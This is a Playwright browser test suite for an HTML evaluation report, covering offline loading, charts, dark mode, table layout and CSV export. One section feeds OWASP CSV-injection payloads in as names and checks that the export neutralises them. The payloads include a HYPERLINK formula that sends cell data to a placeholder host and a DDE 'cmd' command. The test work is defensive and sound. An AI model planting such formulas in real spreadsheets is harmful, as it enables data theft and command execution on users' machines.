"""The rendered report in a real headless browser (Debian's chromium driven by playwright).

The page must load from file:// with every other request blocked, log no console error,
draw its charts, show the script-tag verdict as text, and leave a screenshot in
tests/artifacts/report.png. Without chromium the test skips, except in CI (env CI set),
where it fails: `.ci/run` installs chromium.
"""

from __future__ import annotations

import json
import os
import random
import re
import shutil
from pathlib import Path

import pytest
from test_report import FAST, XSS, write_synthetic

from workbench.cli import main as cli
from workbench.report.figures import DARK_COLORS
from workbench.report.plots import VALID

pytestmark = pytest.mark.browser

CHROMIUM = "/usr/bin/chromium"
ARTIFACTS = Path(__file__).resolve().parent / "artifacts"
ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--no-first-run",
]


def _need_chromium() -> None:
    if Path(CHROMIUM).is_file() or shutil.which("chromium"):
        return
    message = f"chromium not found at {CHROMIUM}: apt-get install -y chromium (.ci/run does this)"
    if os.environ.get("CI"):
        pytest.fail(message)
    pytest.skip(message)


@pytest.fixture(scope="module")
def page_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    _need_chromium()
    base = tmp_path_factory.mktemp("browser")
    data = write_synthetic(base / "data")
    code = cli.main(
        ["report", data["rows"], "--config", data["config"], *FAST, "--out", str(base / "out")]
    )
    assert code == 0
    return base / "out" / "report.html"


def test_report_in_headless_chromium(page_report: Path) -> None:
    from playwright.sync_api import sync_playwright

    outside: list[str] = []
    console: list[str] = []
    dialogs: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=CHROMIUM if Path(CHROMIUM).is_file() else shutil.which("chromium"),
            args=ARGS,
        )
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 1600})

            def route(r):  # type: ignore[no-untyped-def]
                if r.request.url.startswith(("file://", "data:", "about:")):
                    r.continue_()
                else:
                    outside.append(r.request.url)
                    r.abort()

            page.route("**/*", route)
            page.on(
                "console",
                lambda m: console.append(f"{m.type}: {m.text}") if m.type == "error" else None,
            )
            page.on("pageerror", lambda e: console.append(f"pageerror: {e}"))
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.goto(page_report.as_uri(), wait_until="load")
            page.wait_for_function(
                "document.querySelectorAll('.wb-vega-ready').length === "
                "document.querySelectorAll('.wb-vega').length",
                timeout=20000,
            )

            charts = page.evaluate("""() => Array.from(
                document.querySelectorAll('.wb-vega-target svg')).map(
                s => s.getBoundingClientRect().width * s.getBoundingClientRect().height)""")
            assert len(charts) == 2 and all(a > 10000 for a in charts), charts
            marks = page.evaluate(
                "document.querySelectorAll('.wb-vega-target svg path, .wb-vega-target svg "
                "rect').length"
            )
            assert marks > 10
            images = page.evaluate("""() => Array.from(document.querySelectorAll('img.wb-img'))
                .filter(i => i.offsetParent !== null).map(i => i.naturalWidth)""")
            assert len(images) >= 2 and all(w > 100 for w in images), images

            page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
            assert page.get_by_text(XSS, exact=True).count() >= 1, (
                "the script-tag verdict should show as text"
            )
            scripts = page.evaluate("document.querySelectorAll('script:not([type])').length")
            assert scripts == 3, "only the table script, the inlined Vega bundle and the chart loader run"
            assert page.evaluate("document.title").startswith("Reanalysis")

            page.evaluate("document.querySelectorAll('details').forEach(d => d.open = false)")
            page.evaluate("window.scrollTo(0, 0)")
            ARTIFACTS.mkdir(exist_ok=True)
            page.screenshot(path=str(ARTIFACTS / "report.png"), full_page=False)
        finally:
            browser.close()
    assert outside == [], f"the page tried to reach the network: {outside}"
    assert console == [], f"console errors: {console}"
    assert dialogs == [], f"a script from the input ran: {dialogs}"
    assert (ARTIFACTS / "report.png").stat().st_size > 10000


# --------------------------------------------------------------------------- interactions

CONTRAST_JS = """() => {
  function rgb(s) { const m = s.match(/[\\d.]+/g); return m ? m.map(Number) : null; }
  function lum(c) { const f = v => { v /= 255; return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; };
                    return 0.2126 * f(c[0]) + 0.7152 * f(c[1]) + 0.0722 * f(c[2]); }
  function bg(el) { for (; el; el = el.parentElement) { const c = rgb(getComputedStyle(el).backgroundColor);
                      if (c && (c.length < 4 || c[3] > 0.5)) { return c; } } return [255, 255, 255]; }
  const bad = [];
  for (const el of document.querySelectorAll('main *')) {
    if (el.closest('svg, .wb-vega, figure, pre, .wb-cmd, .wb-json, .wb-unmeasured, .wb-beside')) { continue; }
    const own = Array.from(el.childNodes).some(n => n.nodeType === 3 && n.textContent.trim());
    if (!own || !el.getClientRects().length) { continue; }
    const st = getComputedStyle(el);
    if (st.visibility === 'hidden' || st.display === 'none') { continue; }
    const fg = rgb(st.color), b = bg(el);
    const a = lum(fg), c = lum(b), ratio = (Math.max(a, c) + 0.05) / (Math.min(a, c) + 0.05);
    const large = parseFloat(st.fontSize) >= 24 || (parseFloat(st.fontSize) >= 18.66 && +st.fontWeight >= 700);
    if (ratio < (large ? 3 : 4.5)) {
      bad.push(`${el.tagName}.${el.className}: ${ratio.toFixed(2)} "${el.textContent.trim().slice(0, 30)}"`);
    }
  }
  return bad;
}"""


def _cells(page, table: str, col: int) -> list[str]:  # type: ignore[no-untyped-def]
    return page.evaluate(
        f"""() => Array.from(document.querySelectorAll("{table} tbody tr")).filter(tr => !tr.hidden)
            .map(tr => tr.cells[{col}].textContent.trim())"""
    )


def test_drill_down_sort_csv_print_and_dark_mode(page_report: Path, tmp_path: Path) -> None:
    import csv

    import polars as pl
    from playwright.sync_api import sync_playwright

    rows = pl.read_parquet(page_report.parent / "rows.parquet")
    dialogs: list[str] = []
    errors: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=CHROMIUM if Path(CHROMIUM).is_file() else shutil.which("chromium"),
            args=ARGS,
        )
        try:
            ctx = browser.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True)
            page = ctx.new_page()
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.on("pageerror", lambda e: errors.append(str(e)))
            page.goto(page_report.as_uri(), wait_until="load")

            # drill-down: the census row of the variant whose name is markup -> its rows
            variant = 'v<i>&"q'
            row = page.locator("tr[data-drill]").filter(has_text=variant).first
            row.click()
            assert page.locator("table.wb-rows").is_visible(), "the rows appendix opened"
            shown = _cells(page, "table.wb-rows", 3)
            expected = rows.filter(pl.col("variant") == variant).height
            assert len(shown) == expected > 0 and set(shown) == {variant}
            note = page.locator(".wb-drill-note").last.text_content() or ""
            assert f"variant {variant}: {expected}" in note
            ARTIFACTS.mkdir(exist_ok=True)
            page.screenshot(path=str(ARTIFACTS / "drill-down.png"))
            page.locator(".wb-clear").click()
            assert len(_cells(page, "table.wb-rows", 3)) == min(rows.height, 1000)

            # sorting: a numeric column of the per-cell census, both ways, undefined last
            page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
            census = "table.wb-census-cells"
            head = page.locator(f"{census} thead th").nth(3)  # valid
            head.click()
            up = [int(v) for v in _cells(page, census, 3)]
            assert up == sorted(up) and head.get_attribute("aria-sort") == "ascending"
            head.click()
            down = [int(v) for v in _cells(page, census, 3)]
            assert down == sorted(up, reverse=True)

            # filter, then CSV export of exactly the rows shown, every field as text
            page.locator("table.wb-rows").evaluate("t => t.scrollIntoView()")
            filt = page.locator(".wb-filter").last
            filt.fill("tuned")
            shown = _cells(page, "table.wb-rows", 3)
            assert shown and set(shown) == {"tuned"}
            with page.expect_download() as dl:
                page.locator(".wb-csv").last.click()
            path = tmp_path / "rows.csv"
            dl.value.save_as(path)
            with path.open(newline="", encoding="utf-8") as fh:
                got = list(csv.reader(fh))
            heads = page.evaluate("Array.from(document.querySelectorAll('table.wb-rows thead th'))"
                                  ".map(th => th.textContent.trim())")
            assert got[0] == heads and len(got) - 1 == len(shown)
            assert {r[3] for r in got[1:]} == {"tuned"}
            filt.fill("")

            # print: what the screen collapses is expanded, even without the script's help
            page.evaluate("document.querySelectorAll('details').forEach(d => d.open = false)")
            assert not page.locator("table.wb-rows").is_visible()
            page.emulate_media(media="print")
            assert page.locator("table.wb-rows").is_visible()
            assert not page.locator(".wb-toolbar").first.is_visible()
            page.emulate_media(media="screen")

            # WCAG AA in light and dark
            assert page.evaluate(CONTRAST_JS) == []
            page.emulate_media(color_scheme="dark")
            bg = page.evaluate("getComputedStyle(document.body).backgroundColor")
            assert bg in ("rgb(20, 24, 29)",), bg
            page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
            assert page.evaluate(CONTRAST_JS) == []
            page.evaluate("document.querySelectorAll('details').forEach(d => d.open = false)")
            page.evaluate("window.scrollTo(0, 0)")
            page.screenshot(path=str(ARTIFACTS / "first-screen-dark.png"))
            page.emulate_media(color_scheme="light")
            page.screenshot(path=str(ARTIFACTS / "first-screen.png"))

            # every header cell says what it heads
            assert page.evaluate("document.querySelectorAll('th:not([scope])').length") == 0
        finally:
            browser.close()
    assert dialogs == [], f"a script from the input ran: {dialogs}"
    assert errors == [], errors


# --------------------------------------------------------------------------- hostile names

#: OWASP's CSV-injection payloads, as variant, judge and scenario names
FORMULAS = ('=HYPERLINK("http://x/?d="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-1+2",
            "@SUM(A1)", "\t=1+2", "\r=1+2")
#: a variant name holding a line separator, a paragraph separator and a right-to-left override
SEPARATED = "v\u2028line\u2029para\u202eevil"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A report whose variant, judge and scenario names are formulas, one variant's name
    holding U+2028, U+2029 and U+202E."""
    _need_chromium()
    base = tmp_path_factory.mktemp("hostile")
    rng = random.Random(3)
    variants = [FORMULAS[0], FORMULAS[1], FORMULAS[2], SEPARATED, "base"]
    judges = [FORMULAS[3], FORMULAS[4]]
    scenarios = [FORMULAS[5], FORMULAS[6], "s2", "s3", "s4", "s5"]
    rows = [
        {"scenario": s, "variant": v, "trial": t, "judge": j, "overall": rng.randint(1, 10)}
        for s in scenarios for v in variants for t in (1, 2) for j in judges
    ]
    (base / "rows.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    (base / "config.yaml").write_text("scores: {overall: overall}\n", encoding="utf-8")
    code = cli.main(["report", str(base / "rows.jsonl"), "--config", str(base / "config.yaml"),
                     *FAST, "--out", str(base / "out")])
    assert code == 0
    return base / "out" / "report.html"


def _launch(p):  # type: ignore[no-untyped-def]
    return p.chromium.launch(
        executable_path=CHROMIUM if Path(CHROMIUM).is_file() else shutil.which("chromium"),
        args=ARGS,
    )


def _charts_settled(page) -> None:  # type: ignore[no-untyped-def]
    """Wait until every interactive chart is drawn or has given up."""
    page.wait_for_function(
        "document.querySelectorAll('.wb-vega-ready, .wb-vega-failed').length === "
        "document.querySelectorAll('.wb-vega').length",
        timeout=20000,
    )


def _download(page, button, path: Path) -> None:  # type: ignore[no-untyped-def]
    """Click ``button`` and save the file it downloads as ``path``. Headless chromium now
    and then drops one of a quick run of downloads (the click lands, the anchor is clicked,
    no download event), so a click that brings nothing in 5 s is tried again, twice."""
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    for attempt in range(3):
        try:
            with page.expect_download(timeout=5000) as dl:
                button.click()
        except PlaywrightTimeout:
            if attempt == 2:
                raise
            continue
        dl.value.save_as(path)
        return


def test_csv_export_neutralises_formulas(hostile_report: Path, tmp_path: Path) -> None:
    """Every table's CSV: a cell that begins with = + - @ TAB or CR (after the export's
    trimming) is prefixed with ' unless it is a number, then quoted as before (OWASP)."""
    import csv

    from playwright.sync_api import sync_playwright

    exports: list[list[list[str]]] = []
    shown: list[list[list[str]]] = []
    with sync_playwright() as p:
        browser = _launch(p)
        try:
            page = browser.new_context(accept_downloads=True).new_page()
            page.goto(hostile_report.as_uri(), wait_until="load")
            _charts_settled(page)  # a chart drawn mid-click moves the buttons below it
            page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
            shown = page.evaluate("""() => Array.from(document.querySelectorAll('.wb-csv')).map(b => {
                const wrap = b.parentElement.nextElementSibling;
                const t = wrap.tagName === 'TABLE' ? wrap : wrap.querySelector('table');
                const text = el => (el.textContent || '').replace(/\\s+/g, ' ').trim();
                return [Array.from(t.querySelectorAll('thead th')).map(text)].concat(
                    Array.from(t.tBodies[0].rows).filter(tr => !tr.hidden)
                        .map(tr => Array.from(tr.cells).map(text)));
            })""")
            buttons = page.locator(".wb-csv")
            for i in range(buttons.count()):
                path = tmp_path / f"table-{i}.csv"
                _download(page, buttons.nth(i), path)
                with path.open(newline="", encoding="utf-8") as fh:
                    exports.append(list(csv.reader(fh)))
        finally:
            browser.close()

    assert len(exports) == len(shown) >= 10, "every table with a CSV button exported"
    cells = [c for table in exports for row in table for c in row]
    formulas = [c for c in cells if c.startswith(TRIGGERS) and not NUMBER.fullmatch(c) and c != "-"]
    assert formulas == [], f"{len(formulas)} formula cells exported: {formulas[:5]}"
    # the payloads are there, neutralised, not dropped; a TAB or CR name trims to =1+2
    for payload in ('=HYPERLINK("http://x/?d="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2",
                    "-1+2", "@SUM(A1)", "=1+2"):
        assert "'" + payload in cells, payload
    # numbers stay numbers: negative ones are exported as printed, never prefixed
    negatives = [c for c in cells if re.fullmatch(r"-\d+\.\d+", c)]
    assert negatives and not [c for c in cells if re.fullmatch(r"'[+-]?\d+(\.\d+)?", c)]
    # cell for cell: the text shown, or ' and the text shown for a formula; nothing else changed
    for got, dom in zip(exports, shown, strict=True):
        want = [["'" + c if c.startswith(TRIGGERS) and not NUMBER.fullmatch(c) and c != "-" else c
                 for c in row] for row in dom]
        assert got == want

def test_charts_draw_names_with_separators_and_bidi_controls(hostile_report: Path) -> None:
    """A name holding U+2028, U+2029 or U+202E keeps both interactive charts: Vega-Lite
    builds no expression from the names, and the charts show the name escaped."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = _launch(p)
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 1600})
            page.goto(hostile_report.as_uri(), wait_until="load")
            _charts_settled(page)
            failed = page.evaluate("Array.from(document.querySelectorAll('.wb-vega-failed'))"
                                   ".map(f => f.id + ': ' + "
                                   "f.querySelector('.wb-vega-target').textContent.slice(0, 200))")
            charts = page.evaluate("""() => Array.from(document.querySelectorAll('.wb-vega')).map(f => ({
                id: f.id, ready: f.classList.contains('wb-vega-ready'),
                text: Array.from(f.querySelectorAll('.wb-vega-target svg text')).map(t => t.textContent),
                area: Array.from(f.querySelectorAll('.wb-vega-target svg')).map(
                    s => s.getBoundingClientRect().width * s.getBoundingClientRect().height)}))""")
            body = page.evaluate("document.body.innerText")
        finally:
            browser.close()
    assert failed == [] and "interactive chart unavailable" not in body, failed
    assert [c["id"] for c in charts] == ["chart-missing_heatmap", "chart-scorecard_forest"]
    escaped = "v\\u2028line\\u2029para\\u202eevil"
    for c in charts:
        assert c["ready"] and len(c["area"]) == 1 and c["area"][0] > 10000, c["id"]
        labels = " ".join(c["text"])
        assert escaped in labels, (c["id"], c["text"])
        assert not any(ch in labels for ch in "\u2028\u2029\u202e"), c["id"]
        for name in FORMULAS[1:3]:  # other variants drawn as named (a long name is cut)
            assert name in labels, (c["id"], name)


# --------------------------------------------------------------------------- tables that fit

#: names as long as real leaderboards print them (FastChat's MT-Bench judgments)
LONG_NAMES = ("camillo_dataset_oast_top1_ft_ehartforddolphin_23122", "mistral-7b_dolphin_orca_wgm_dpo_bf16",
              "mistral-7b_dolphin_orca_labonne_dpo", "NeuralMarcoro14-7B", "dolphin-2.2.1-mistral-7b")


@pytest.fixture(scope="module")
def long_names_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Five variants named as on a real leaderboard, two judges with long names, a subset."""
    _need_chromium()
    base = tmp_path_factory.mktemp("long")
    rng = random.Random(5)
    judges = ["gpt-4-0613_single_v1_judge", "claude-3-opus-20240229_single_math_v1"]
    rows = [
        {"scenario": f"question_{s:03d}_writing_multi_turn", "variant": v, "trial": t, "judge": j,
         "overall": (None if rng.random() < 0.05 else rng.randint(3 + i % 3, 10))}
        for s in range(24) for i, v in enumerate(LONG_NAMES) for t in (1, 2) for j in judges
    ]
    (base / "rows.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    (base / "config.yaml").write_text(
        "scores: {overall: overall}\nsubsets: {early: {scenario: [" + ", ".join(
            f"question_{s:03d}_writing_multi_turn" for s in range(12)) + "]}}\n", encoding="utf-8")
    code = cli.main(["report", str(base / "rows.jsonl"), "--config", str(base / "config.yaml"),
                     *FAST, "--out", str(base / "out")])
    assert code == 0
    return base / "out" / "report.html"


#: every table in <main> once every <details> is open: its width, its container's, where it is
TABLE_WIDTHS_JS = """() => {
  document.querySelectorAll('details').forEach(d => d.open = true);
  const heads = Array.from(document.querySelectorAll('main h1, main h2, main h3, main summary'));
  return Array.from(document.querySelectorAll('main table')).map(t => {
    let where = '';
    for (const h of heads) {
      if (h.compareDocumentPosition(t) & Node.DOCUMENT_POSITION_FOLLOWING) { where = h.textContent.trim(); }
    }
    const box = t.parentElement;
    return {where: where.slice(0, 60), cls: t.className, table: t.scrollWidth, box: box.clientWidth,
            shown: t.getClientRects().length > 0,
            head: Array.from(t.tHead ? t.tHead.rows[0].cells : []).map(c => c.textContent.trim())};
  });
}"""

#: tables allowed to scroll sideways: none. The rows appendix (file:line, names, the verdict
#: text) wraps like the rest and fits; it would be the one to exempt, being raw data.
EXEMPT: tuple[str, ...] = ()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_tables_fit_at_1366(page_report: Path, hostile_report: Path, long_names_report: Path,
                            scheme: str) -> None:
    """At 1366 x 900, light and dark, no table in the report scrolls sideways (its scrollWidth
    is at most its container's clientWidth), every <details> open; the scorecard keeps its
    rank and status columns and the contrasts their verdict, and the power statement is in a
    title, not repeated beside its number."""
    from playwright.sync_api import sync_playwright

    reports = {"synthetic": page_report, "hostile": hostile_report, "long-names": long_names_report}
    wide: list[str] = []
    seen: dict[str, list[dict]] = {}
    with sync_playwright() as p:
        browser = _launch(p)
        try:
            ctx = browser.new_context(viewport={"width": 1366, "height": 900}, color_scheme=scheme)
            for label, path in reports.items():
                page = ctx.new_page()
                page.goto(path.as_uri(), wait_until="load")
                _charts_settled(page)
                tables = [t for t in page.evaluate(TABLE_WIDTHS_JS) if t["shown"]]
                seen[label] = tables
                wide += [f"{label} [{t['where']}] {t['cls']}: {t['table']} > {t['box']}" for t in tables
                         if t["table"] > t["box"] and not any(x in t["cls"] for x in EXEMPT)]
                if label == "long-names":
                    page.evaluate("document.querySelectorAll('details').forEach(d => d.open = false)")
                    ARTIFACTS.mkdir(exist_ok=True)
                    page.evaluate("window.scrollTo(0, 0)")
                    page.screenshot(path=str(ARTIFACTS / f"fit-first-screen-{scheme}.png"))
                    for key in ("scorecard", "contrasts"):  # the section's table, its toolbar above
                        page.evaluate(f"document.querySelector('table.wb-{key}').scrollIntoView(); "
                                      "window.scrollBy(0, -60)")
                        page.screenshot(path=str(ARTIFACTS / f"fit-{key}-{scheme}.png"))
                    power = page.evaluate("""() => Array.from(document.querySelectorAll(
                        'table.wb-contrasts tbody tr')).map(tr => {
                          const c = tr.cells[7]; const tip = c && c.querySelector('[title]');
                          return c ? [c.textContent.trim(), tip ? tip.title : null] : null; })
                        .filter(x => x)""")
                page.close()
        finally:
            browser.close()
    assert wide == [], "tables wider than their box at 1366 px:\n" + "\n".join(wide)
    for label, tables in seen.items():
        assert len(tables) >= 10, (label, len(tables))
        score = next(t for t in tables if "wb-scorecard" in t["cls"])
        assert score["head"][0] == "rank" and "status" in score["head"], score["head"]
        contrasts = next(t for t in tables if "wb-contrasts" in t["cls"])
        assert contrasts["head"][-1] == "verdict", contrasts["head"]
    # scenarios needed: the number in the cell, the sentence only in its title
    assert power, "the long-names report has contrasts"
    for text, title in power:
        assert text == "-" or text.isdigit(), text
        if title:
            assert "scenarios" in title and f"{text} scenarios" in title, (text, title)


def test_vega_charts_follow_dark_mode(page_report: Path) -> None:
    """In dark mode both interactive charts draw on a dark background with light labels (no
    white box), offline; in light mode on white; switching the scheme redraws them."""
    from playwright.sync_api import sync_playwright

    def lum(rgb: str) -> float:
        r, g, b = (int(x) / 255 for x in re.findall(r"\d+", rgb)[:3])
        f = [(v / 12.92 if v <= 0.03928 else ((v + 0.055) / 1.055) ** 2.4) for v in (r, g, b)]
        return 0.2126 * f[0] + 0.7152 * f[1] + 0.0722 * f[2]

    probe = """() => Array.from(document.querySelectorAll('.wb-vega')).map(f => {
        const svg = f.querySelector('.wb-vega-target svg');
        const labels = Array.from(svg.querySelectorAll('.role-axis-label text, .role-title-text text'));
        return {id: f.id, theme: f.dataset.theme, svg: getComputedStyle(svg).backgroundColor,
                view: f._wbView ? f._wbView.background() : null,
                box: getComputedStyle(f.querySelector('.wb-vega-target')).backgroundColor,
                labels: labels.map(t => getComputedStyle(t).fill).slice(0, 6),
                colors: Array.from(svg.querySelectorAll(':not(text)[fill], :not(text)[stroke]')).flatMap(
                    e => [e.getAttribute('fill'), e.getAttribute('stroke')]).filter(c => c)};
    })"""
    outside: list[str] = []
    errors: list[str] = []
    with sync_playwright() as p:
        browser = _launch(p)
        try:
            got = {}
            for scheme in ("dark", "light"):
                ctx = browser.new_context(viewport={"width": 1366, "height": 900}, color_scheme=scheme)
                page = ctx.new_page()
                page.route("**/*", lambda r: r.continue_() if r.request.url.startswith(
                    ("file://", "data:", "about:")) else (outside.append(r.request.url), r.abort()))
                page.on("pageerror", lambda e: errors.append(str(e)))
                page.goto(page_report.as_uri(), wait_until="load")
                _charts_settled(page)
                got[scheme] = page.evaluate(probe)
                if scheme == "dark":
                    page.evaluate("document.getElementById('chart-scorecard_forest').scrollIntoView()")
                    ARTIFACTS.mkdir(exist_ok=True)
                    page.screenshot(path=str(ARTIFACTS / "fit-chart-dark.png"))
                    # the reader switches to light: the charts are drawn again, on white
                    page.emulate_media(color_scheme="light")
                    page.wait_for_function("Array.from(document.querySelectorAll('.wb-vega'))"
                                           ".every(f => f.dataset.theme === 'light')", timeout=20000)
                    got["switched"] = page.evaluate(probe)
                ctx.close()
        finally:
            browser.close()
    assert outside == [] and errors == [], (outside, errors)
    for scheme, charts in got.items():
        assert [c["id"] for c in charts] == ["chart-missing_heatmap", "chart-scorecard_forest"], charts
        for c in charts:
            assert c["labels"], c
            if scheme == "dark":
                assert c["theme"] == "dark" and c["view"] == "#1c2128", c
                assert lum(c["svg"]) < 0.05 and lum(c["box"]) < 0.05, c
                assert all(lum(f) > 0.5 for f in c["labels"]), c  # light labels on the dark ground
                # no mark in the light palette's dark blue/red (figures.DARK_COLORS), none drawn
                # in white (white text on a dark heatmap cell is text, not counted)
                assert not {*DARK_COLORS, "white", "#fff", "#ffffff"} & set(c["colors"]), c["id"]
            else:
                assert c["theme"] == "light" and lum(c["svg"]) > 0.9, c
                assert all(lum(f) < 0.2 for f in c["labels"]), c
        forest = charts[1]["colors"]
        assert (DARK_COLORS[VALID] in forest) == (scheme == "dark"), scheme
        assert (VALID in forest) == (scheme != "dark"), scheme
